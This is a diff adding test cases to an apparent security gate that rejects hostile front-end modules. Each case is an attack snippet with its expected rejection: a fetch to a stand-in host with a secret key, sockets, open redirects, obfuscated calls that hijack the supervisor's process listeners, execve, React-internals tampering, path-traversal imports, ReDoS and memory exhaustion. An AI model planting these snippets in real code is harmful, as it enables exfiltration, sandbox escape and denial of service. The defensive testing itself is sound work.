@@ -118,6 +118,103 @@ describe('the whole gate', () => {
     ['has text evaluated by a list', loading(`['1'].map(eval)`), /jobs evaluates text as code/],
     ['has text evaluated by a promise', loading(`Promise.resolve('1').then(eval)`), /jobs evaluates text as code/],
     [
+      'asks others past the API client',
+      loading(`fetch('https://elsewhere.example/secret?key=1')`),
+      /jobs asks https:\/\/elsewhere\.example past the API client/,
+    ],
+    [
+      'opens a socket',
+      loading(`new WebSocket('wss://elsewhere.example/')`),
+      /jobs asks wss:\/\/elsewhere\.example past the API client/,
+    ],
+    [
+      'sends its visitors elsewhere by a redirect',
+      {
+        source: page(
+          'jobs.portal',
+          `{ loader: () => new Response(null, { status: 302, headers: { Location: 'https://elsewhere.example/' } }) }`,
+        ),
+      },
+      /\/portal-empleo sends its visitors to https:\/\/elsewhere\.example\//,
+    ],
+    [
+      'leads to itself for ever',
+      {
+        source: page(
+          'jobs.portal',
+          `{ loader: () => new Response(null, { status: 302, headers: { Location: '/portal-empleo' } }) }`,
+        ),
+      },
+      /\/portal-empleo leads on and on, at last to \/portal-empleo/,
+    ],
+    [
+      'calls what its worker does for the supervisor',
+      {
+        source: `globalThis['pro' + 'cess'].listeners('message')[0]({ suspend: ['education'] });\nexport * from './built.js';`,
+      },
+      /it called process\.listeners\(\)/,
+    ],
+    [
+      'makes its worker deaf',
+      { source: `globalThis['pro' + 'cess'].off('message', () => {});\nexport * from './built.js';` },
+      /it called process\.off\(\)/,
+    ],
+    [
+      'reaches for the worker’s sockets',
+      loading(`process['_getActiveHandles']().length`),
+      /it called process\._getActiveHandles\(\)/,
+    ],
+    ['becomes another process', loading(`process['execve']('/bin/true')`), /it called process\.execve\(\)/],
+    [
+      'changes what a shared package offers',
+      { source: wrap('', `import { useAtom } from 'jotai'; useAtom.label = 'mine';`) },
+      /Cannot add property label, object is not extensible/,
+    ],
+    [
+      'takes hold of what React does for all',
+      {
+        source: wrap(
+          '',
+          `import React from 'react'; const key = Object.keys(React).find((one) => one.includes('INTERNALS')); Object.defineProperty(React[key], 'H', { get: () => null });`,
+        ),
+      },
+      /Cannot redefine property: H|does not provide an export/,
+    ],
+    [
+      'imports a module that is a text',
+      { source: `import 'data:text/javascript,1';\nexport * from './built.js';` },
+      /data:text\/javascript,1 is not in the contract/,
+    ],
+    [
+      'imports the shell when it is asked',
+      loading(`import('../../../shell/x/server/worker.js')`),
+      /is outside of the release/,
+    ],
+    [
+      'names scripts of others as its own',
+      { release: { chunks: { 'jobs.portal': { js: ['../../../shell/x/browser/main.js'], css: [] } } } },
+      /release\.json names the file \.\.\/\.\.\/\.\.\/shell\/x\/browser\/main\.js, which it does not have/,
+    ],
+    [
+      'has a middleware that never answers',
+      {
+        source: wrap(
+          `routes: built.routes.map((route) => (route.id === 'jobs.portal' ? { ...route, middleware: [() => new Promise(() => {})] } : route))`,
+        ),
+      },
+      /the route portal-empleo\S* has a middleware: the server runs none/,
+    ],
+    [
+      'has an expression that backtracks for ever',
+      loading(`/^(a+)+$/.test('a'.repeat(60) + '!')`),
+      /it held the event loop for \d+ ms/,
+    ],
+    [
+      'takes 2 GB at once',
+      loading(`[1, 2, 3, 4].map(() => new Uint8Array(500_000_000).fill(1).length)`),
+      /it took more than 160 MB without a pause|it held the event loop/,
+    ],
+    [
       'evaluates text when it is imported',
       { source: `new Function('return 1')();\nexport * from './built.js';` },
       /jobs evaluates text as code/,
